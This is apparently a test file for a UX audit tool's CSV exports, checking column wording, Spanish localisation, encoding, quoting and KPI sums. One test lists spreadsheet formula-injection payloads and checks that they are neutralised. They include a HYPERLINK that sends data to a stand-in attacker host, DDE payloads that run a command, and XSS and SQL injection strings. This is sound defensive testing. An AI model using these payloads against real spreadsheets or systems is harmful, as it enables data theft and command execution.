import { parse } from 'csv-parse/sync';
import { BOM, csvField } from '@/lib/report/csv-format';
import { tagsCsv, touchpointsCsv } from '@/lib/report/csv';
import { kpis, makeFile, T0, tag, words } from './csv-fixture';

/** The file as a spreadsheet import reads it: strict RFC 4180, records ended by CRLF only. */
function read(text: string): string[][] {
  return parse(text, { bom: true, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false });
}

/** Rows as objects keyed by the header, to ask for a column by its name. */
function table(text: string): Record<string, string>[] {
  const [header = [], ...rows] = read(text);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ''])));
}

const EN = words('en');
const ES = words('es');

describe('tags CSV', () => {
  it('has one row per tag, in walk and time order, with every column worded in English', () => {
    const file = makeFile([tag('w1', 2, { note: 'second' }), tag('w1', 1, { note: 'first' })]);
    const rows = table(tagsCsv(file, EN.present, EN.t));
    expect(rows.map((r) => r.Note)).toEqual(['first', 'second', 'ok']);
    expect(rows[0]).toEqual({
      Audit: 'Tienda — auditoría',
      Walk: 'w1',
      'Walk started (UTC, ISO 8601)': '2026-12-04T09:30:00.000Z',
      Auditor: 'Ana',
      Persona: 'Begoña',
      Touchpoint: 'Cesta',
      Channel: 'Web',
      Stage: 'Purchase',
      'Page URL': 'https://shop.example/cart',
      'Page title': 'Cart',
      Element: 'button “Pay”',
      'CSS selector': '#send',
      Category: 'Form and input effort',
      'Severity (0–4)': '3',
      'Effort (CES 1–7, higher is easier)': '2',
      'Emotion (−2 to +2)': '-2',
      'Moment of truth': 'Yes, unexpected',
      Note: 'first',
      'Tagged at (UTC, ISO 8601)': new Date(T0 + 1005).toISOString(),
      Screenshot: 'No',
    });
    expect(rows[2]).toMatchObject({ Walk: 'w2', Auditor: 'Luis', Persona: 'Tomás', Screenshot: 'Yes' });
  });

  it('is worded in Spanish with accents intact, after a BOM', () => {
    const file = makeFile([tag('w1', 1, { categoryId: 'custom-one', note: 'Precio: 12,50 € — ¿por qué?' })]);
    const text = tagsCsv(file, ES.present, ES.t);
    expect(text.startsWith(BOM)).toBe(true);
    expect(text.codePointAt(0)).toBe(0xfeff);
    const [row] = table(text);
    expect(row).toMatchObject({
      Auditoría: 'Tienda — auditoría',
      Persona: 'Begoña',
      'Punto de contacto': 'Cesta',
      Etapa: 'Compra',
      Elemento: 'botón «Pay»',
      Categoría: 'Pago con €, ñandú',
      'Momento de la verdad': 'Sí, imprevisto',
      Nota: 'Precio: 12,50 € — ¿por qué?',
      Captura: 'No',
    });
    // UTF-8 all the way: the bytes decode to the same characters.
    const bytes = new TextEncoder().encode(text);
    expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(new TextDecoder().decode(bytes)).toContain('ñandú');
  });

  it('ends every record with CRLF, and keeps multi-line notes and quotes in one field', () => {
    const note = 'Line one, with a comma\nLine "two"\r\nLine three';
    const text = tagsCsv(makeFile([tag('w1', 1, { note })]), EN.present, EN.t);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text).toContain('"Line one, with a comma\nLine ""two""\r\nLine three"');
    const rows = table(text);
    expect(rows).toHaveLength(2);
    expect(rows[0]?.Note).toBe(note);
  });

  it('names the element from its anchor when the tag has no target', () => {
    const file = makeFile([tag('w1', 1, { target: null })]);
    expect(table(tagsCsv(file, EN.present, EN.t))[0]?.Element).toBe('“Send”');
    expect(table(tagsCsv(file, ES.present, ES.t))[0]?.Elemento).toBe('«Send»');
  });

  it('writes scales as plain numbers: a negative emotion stays a number', () => {
    const text = tagsCsv(makeFile(), EN.present, EN.t);
    const line = text.split('\r\n')[1] ?? '';
    expect(line).toContain(',3,2,-2,');
    const cast = parse(text, { bom: true, cast: true, from_line: 2 }) as unknown[][];
    expect(cast[0]?.slice(13, 16)).toEqual([3, 2, -2]);
  });

  it('neutralises every formula trigger in page text, and page text stays plain text', () => {
    const payloads = [
      '=1+1',
      '+1+1',
      '-1+1',
      '-2',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '  =1+1',
      '\u00a0=1+1',
      '＝1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "=cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@"quoted",comma\nnew line',
    ];
    const plain = [
      '<img src=x onerror=alert(1)>',
      '</script><script>alert(1)</script>',
      '"; DROP TABLE tags; --',
      "'=already",
    ];
    const tags = [...payloads, ...plain].map((p, i) =>
      tag('w1', i + 1, { pageTitle: p, url: p, note: p, target: { kind: 'link', name: p } }),
    );
    const rows = table(tagsCsv(makeFile(tags), EN.present, EN.t)).slice(0, tags.length);
    rows.forEach((row, i) => {
      const p = [...payloads, ...plain][i] as string;
      const expected = i < payloads.length ? `'${p}` : p;
      expect(row['Page title'], JSON.stringify(p)).toBe(expected);
      expect(row['Page URL']).toBe(expected);
      expect(row.Note).toBe(expected);
    });
    // No cell of the file, read back, starts a formula.
    for (const cells of read(tagsCsv(makeFile(tags), EN.present, EN.t))) {
      for (const cell of cells) {
        if (/^-\d+$/.test(cell)) continue;
        expect(cell, JSON.stringify(cell)).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u);
      }
    }
  });
});

describe('touchpoints CSV', () => {
  it('has one row per touchpoint in journey order, with KPIs summed and means over every rating', () => {
    const rows = table(touchpointsCsv(makeFile(), EN.present, EN.t));
    expect(rows.map((r) => r.Touchpoint)).toEqual(['Home', 'Cesta', 'Línea de atención']);
    expect(rows[1]).toEqual({
      Touchpoint: 'Cesta',
      Channel: 'Web',
      Stage: 'Purchase',
      'Pages (URL patterns)': 'shop.example/cart\nshop.example/cart/:id',
      'Walks that met it': '2',
      'Time on it (s, all walks)': '90',
      Visits: '2',
      Steps: '4',
      Clicks: '2',
      Errors: '1',
      'Script errors': '1',
      'Failed requests': '0',
      Waits: '3',
      'Time waiting (s)': '13',
      'Longest wait (s)': '7.5',
      Reschedules: '0',
      Transfers: '0',
      'Mean CES (1–7)': '3.5',
      'Mean CSAT (1–5)': '2.5',
      'Mean effort of its tags (1–7)': '3.5',
      'Tags of severity 0 · Not a problem': '0',
      'Tags of severity 1 · Cosmetic': '1',
      'Tags of severity 2 · Minor': '0',
      'Tags of severity 3 · Major': '1',
      'Tags of severity 4 · Catastrophe': '0',
      Tags: '2',
    });
    expect(rows[0]).toMatchObject({
      'Walks that met it': '1',
      'Time on it (s, all walks)': '12.3',
      'Mean CES (1–7)': '',
    });
    expect(rows[2]).toMatchObject({
      Channel: 'Phone',
      'Walks that met it': '0',
      Tags: '0',
      'Pages (URL patterns)': '',
    });
  });

  it('is worded in Spanish, after a BOM', () => {
    const text = touchpointsCsv(makeFile(), ES.present, ES.t);
    expect(text.startsWith(BOM)).toBe(true);
    const rows = table(text);
    expect(rows[2]).toMatchObject({
      'Punto de contacto': 'Línea de atención',
      Canal: 'Teléfono',
      Etapa: 'Atención al cliente',
    });
    expect(Object.keys(rows[0] ?? {})).toContain('Etiquetas de gravedad 3 · Grave');
  });

  it('counts from the records of the walks, as the report does, whatever KPIs the file stored', () => {
    const file = makeFile();
    const before = touchpointsCsv(file, EN.present, EN.t);
    const w1 = file.walks[0];
    if (!w1) throw new Error('fixture');
    w1.kpis = [kpis('tp-cart', { timeMs: 999_000, visits: 50, tags: 40, meanCes: 7 })];
    expect(touchpointsCsv(file, EN.present, EN.t)).toBe(before);
  });
});

describe('CSV fields', () => {
  it('quote what needs quoting and leave numbers readable', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(-2)).toBe('-2');
    expect(csvField(4.25)).toBe('4.25');
    expect(csvField('-2')).toBe("'-2");
    expect(csvField(-1e21)).toBe("'-1e+21");
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
  });
});
